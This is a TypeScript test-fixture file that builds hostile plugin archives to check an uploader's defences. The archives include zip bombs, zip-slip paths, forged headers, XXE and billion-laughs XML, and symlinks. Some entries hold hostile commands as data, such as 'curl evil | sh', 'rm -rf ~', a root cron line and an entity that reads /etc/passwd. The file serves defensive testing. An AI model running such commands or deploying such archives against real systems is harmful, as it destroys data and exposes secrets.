import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { crc32, deflateRawSync } from 'node:zlib';
import type { ArchiveLimits } from '../../src/archive';
import { archiveBytes, libraryJarContent, pluginJarContent, pluginXml } from './plugin-fixtures';
import { deflatedEntry, storedEntry, unicodePathExtraField, writeZip } from './zip-writer';
import type { RawEntry } from './zip-writer';

/**
 * Archives an attacker (or a broken build) could upload, generated on the fly so no hostile binary is ever
 * committed. Each names the one error the uploader must get.
 */
export interface HostileArchive {
  name: string;
  /** Writes the archive into `folder` and returns its path. */
  write(folder: string): Promise<string>;
  expectedError: RegExp;
  limits?: Partial<ArchiveLimits>;
}

const MEGABYTE = 1024 * 1024;
const UNIX_SYMBOLIC_LINK = 0o120777;

async function save(folder: string, fileName: string, bytes: Buffer): Promise<string> {
  const path = join(folder, fileName);
  await writeFile(path, bytes);
  return path;
}

function descriptorEntry(xml: string = pluginXml()): RawEntry {
  return deflatedEntry('META-INF/plugin.xml', xml);
}

const XXE_DESCRIPTOR = `<?xml version="1.0"?>
<!DOCTYPE idea-plugin [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<idea-plugin><id>com.example.xxe</id><name>&secret;</name></idea-plugin>`;

const BILLION_LAUGHS_DESCRIPTOR = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<idea-plugin><id>com.example.lol</id><name>&lol9;</name></idea-plugin>`;

/** A jar whose plugin.xml is fine and which also holds `extra`, the hostile part. */
function pluginJarWith(...extra: RawEntry[]): Buffer {
  return writeZip([descriptorEntry(), ...extra]);
}

export const HOSTILE_ARCHIVES: readonly HostileArchive[] = [
  {
    name: 'zip bomb: 17 entries of 64 MB of zeros, about 1 MB on disk, 1.06 GB unpacked',
    async write(folder) {
      const zeros = Buffer.alloc(64 * MEGABYTE);
      const compressed = deflateRawSync(zeros, { level: 9 });
      const checksum = crc32(zeros);
      const bombs = Array.from({ length: 17 }, (_, index) => ({
        name: `bomb/lib/zeros-${index}.bin`,
        data: compressed,
        method: 8 as const,
        crc32: checksum,
        uncompressedSize: zeros.length,
      }));
      return save(folder, 'bomb.zip', pluginJarWith(...bombs));
    },
    expectedError:
      /^The upload would decompress to more than 1 GB, the most an upload may unpack to \(zip bombs stop here\)\.$/,
  },
  {
    name: 'zip slip: an entry that climbs out with ../',
    write: (folder) =>
      save(folder, 'slip.jar', pluginJarWith(storedEntry('../../../home/user/.bashrc', 'curl evil | sh'))),
    expectedError:
      /^The upload contains an unsafe path: the entry '..\/..\/..\/home\/user\/.bashrc' climbs out of its folder with '..'/,
  },
  {
    name: 'zip slip: an absolute path',
    write: (folder) =>
      save(folder, 'absolute.jar', pluginJarWith(storedEntry('/etc/cron.d/evil', '* * * * * root sh'))),
    expectedError:
      /^The upload contains an unsafe path: the entry '\/etc\/cron.d\/evil' has an absolute path/,
  },
  {
    name: 'zip slip: a Windows drive letter',
    write: (folder) =>
      save(folder, 'drive.jar', pluginJarWith(storedEntry('C:/Windows/System32/evil.dll', 'MZ'))),
    expectedError:
      /^The upload contains an unsafe path: the entry 'C:\/Windows\/System32\/evil.dll' starts with a drive letter/,
  },
  {
    name: 'zip slip: backslashes, which Windows reads as separators',
    write: (folder) =>
      save(folder, 'backslash.jar', pluginJarWith(storedEntry('..\\..\\evil.bat', 'del /q *'))),
    expectedError:
      /^The upload contains an unsafe path: the entry name '..\\..\\evil.bat' contains a backslash/,
  },
  {
    name: 'zip slip hidden behind a clean Unicode Path extra field',
    write: (folder) =>
      save(
        folder,
        'unicode-path.jar',
        pluginJarWith(
          storedEntry('../../../evil.sh', 'rm -rf ~', {
            extraField: unicodePathExtraField('../../../evil.sh', 'docs/evil.sh'),
          }),
        ),
      ),
    expectedError:
      /^The upload contains an unsafe path: the entry '..\/..\/..\/evil.sh' climbs out of its folder with '..'/,
  },
  {
    name: 'zip slip in the local header only, where streaming unzip tools look',
    write: (folder) =>
      save(
        folder,
        'local-slip.jar',
        pluginJarWith(storedEntry('docs/aaaaaa.sh', 'rm -rf ~', { localName: '../../evil.sh' })),
      ),
    expectedError:
      /^The upload is forged: the entry 'docs\/aaaaaa.sh' carries another name \('..\/..\/evil.sh'\) in its local header/,
  },
  {
    name: 'local header declaring another size than the central directory',
    write: (folder) =>
      save(
        folder,
        'local-size.jar',
        pluginJarWith(deflatedEntry('data/a.txt', 'a'.repeat(1000), { localUncompressedSize: 10 })),
      ),
    expectedError: /^The upload is forged: the two headers of 'data\/a.txt' declare different sizes\.$/,
  },
  {
    name: 'lying size header: 8 MB of data behind a header that declares 100 bytes',
    async write(folder) {
      const content = Buffer.alloc(8 * MEGABYTE, 0x61);
      return save(
        folder,
        'liar.jar',
        pluginJarWith(deflatedEntry('data/big.txt', content, { uncompressedSize: 100 })),
      );
    },
    expectedError:
      /^The size header of 'data\/big.txt' in the upload is forged: the entry decompresses to more than the 100 bytes it declares\.$/,
  },
  {
    name: 'lying size header on a stored entry',
    write: (folder) =>
      save(
        folder,
        'stored-liar.jar',
        pluginJarWith(storedEntry('data/a.txt', 'a'.repeat(4096), { uncompressedSize: 10 })),
      ),
    expectedError:
      /^The upload is forged or damaged: an entry stored without compression declares a size different from its data\.$/,
  },
  {
    name: 'XXE: plugin.xml declares an external entity reading /etc/passwd',
    write: (folder) => save(folder, 'xxe.jar', writeZip([descriptorEntry(XXE_DESCRIPTOR)])),
    expectedError: /^plugin.xml contains a <!DOCTYPE> or <!ENTITY> declaration\./,
  },
  {
    name: 'billion laughs: plugin.xml entities expanding to 10^9 strings',
    write: (folder) => save(folder, 'laughs.jar', writeZip([descriptorEntry(BILLION_LAUGHS_DESCRIPTOR)])),
    expectedError: /^plugin.xml contains a <!DOCTYPE> or <!ENTITY> declaration\./,
  },
  {
    name: 'missing plugin.xml: a jar of classes only',
    write: async (folder) => save(folder, 'library.jar', await archiveBytes(libraryJarContent('library'))),
    expectedError:
      /^plugin.xml not found: a plugin archive must contain META-INF\/plugin.xml, or a jar with it under <name>\/lib\/\.$/,
  },
  {
    name: 'truncated zip: the second half of a plugin jar is missing',
    async write(folder) {
      const jar = await archiveBytes(pluginJarContent());
      return save(folder, 'truncated.jar', jar.subarray(0, Math.floor(jar.length / 2)));
    },
    expectedError:
      /^The upload is not a zip or jar archive, or it is cut short: its end-of-archive record is missing\./,
  },
  {
    name: 'non-zip: a PNG image uploaded by mistake',
    write: (folder) =>
      save(
        folder,
        'icon.png',
        Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(200)]),
      ),
    expectedError: /^The upload is not a zip or jar archive, or it is cut short/,
  },
  {
    name: '100,000 entries',
    write: (folder) =>
      save(
        folder,
        'many.jar',
        writeZip([
          descriptorEntry(),
          ...Array.from({ length: 100_000 }, (_, index) => storedEntry(`com/example/C${index}.class`, '')),
        ]),
      ),
    expectedError: /^The upload has 100,001 entries; at most 40,000 are accepted in one archive\.$/,
  },
  {
    // Each jar stays under the per-archive limit; only the count across nesting levels catches it.
    name: '100,000 tiny entries spread over three jars inside the zip',
    async write(folder) {
      const classes = (from: number) =>
        writeZip(
          Array.from({ length: 33_334 }, (_, index) => storedEntry(`com/example/C${from + index}.class`, '')),
        );
      return save(
        folder,
        'spread.zip',
        writeZip([
          deflatedEntry('spread/lib/spread.jar', await archiveBytes(pluginJarContent())),
          storedEntry('spread/lib/a.jar', classes(0)),
          storedEntry('spread/lib/b.jar', classes(33_334)),
          storedEntry('spread/lib/c.jar', classes(66_668)),
        ]),
      );
    },
    expectedError:
      /^The upload and the jars inside it list more than 60,000 entries together, the most accepted\.$/,
  },
  {
    name: 'symlink: an entry whose Unix mode makes it a link to /etc/passwd',
    write: (folder) =>
      save(
        folder,
        'link.jar',
        pluginJarWith(
          storedEntry('resources/passwd', '/etc/passwd', {
            externalAttributes: UNIX_SYMBOLIC_LINK * 0x10000,
          }),
        ),
      ),
    expectedError: /^The upload contains a symbolic link, 'resources\/passwd'/,
  },
  {
    name: 'deep nesting: plugin.xml three jars deep inside the zip',
    async write(folder) {
      const level3 = await archiveBytes(pluginJarContent());
      const level2 = await archiveBytes({ 'lib/level3.jar': level3 });
      const level1 = await archiveBytes({ 'lib/level2.jar': level2 });
      return save(folder, 'deep.zip', writeZip([deflatedEntry('deep/lib/deep.jar', level1)]));
    },
    expectedError:
      /^Nested archives too deep: .* \(such as 'deep\/lib\/deep.jar!\/lib\/level2.jar'\) are never opened\./,
  },
  {
    name: 'nested zips at the top of the upload (42.zip style)',
    async write(folder) {
      const inner = await archiveBytes({
        'a.zip': await archiveBytes({ 'b.zip': await archiveBytes(pluginJarContent()) }),
      });
      return save(folder, 'zips.zip', writeZip([storedEntry('0.zip', inner), storedEntry('1.zip', inner)]));
    },
    expectedError:
      /^plugin.xml not found: .* The upload holds '0.zip' outside <name>\/lib\/, where archives are neither loaded by the IDE nor opened here\.$/,
  },
  {
    name: 'the same entry listed twice',
    write: (folder) =>
      save(
        folder,
        'twice.jar',
        writeZip([descriptorEntry(), descriptorEntry(pluginXml({ id: '<id>com.evil</id>' }))]),
      ),
    expectedError: /^The upload lists the entry 'META-INF\/plugin.xml' twice/,
  },
  {
    name: 'an encrypted entry',
    write: (folder) =>
      save(
        folder,
        'encrypted.jar',
        pluginJarWith(
          storedEntry('secret.bin', 'x'.repeat(24), { generalPurposeFlags: 0x0801, uncompressedSize: 12 }),
        ),
      ),
    expectedError:
      /^The upload contains the encrypted entry 'secret.bin'; plugin archives must not be encrypted\.$/,
  },
  {
    name: 'a CRC that does not match the data',
    write: (folder) =>
      save(folder, 'crc.jar', pluginJarWith(deflatedEntry('data/a.txt', 'hello world', { crc32: 12345 }))),
    expectedError: /^The upload is damaged: 'data\/a.txt' in the upload fails its CRC-32 check\.$/,
  },
  {
    name: 'an archive over the upload size limit',
    write: async (folder) =>
      save(
        folder,
        'large.jar',
        await archiveBytes({ ...pluginJarContent(), 'noise.bin': Buffer.alloc(2048, 7) }),
      ),
    limits: { maxArchiveBytes: 1024 },
    expectedError: /^The upload is \d+(\.\d)? KB; the largest plugin archive accepted is 1 KB\.$/,
  },
];
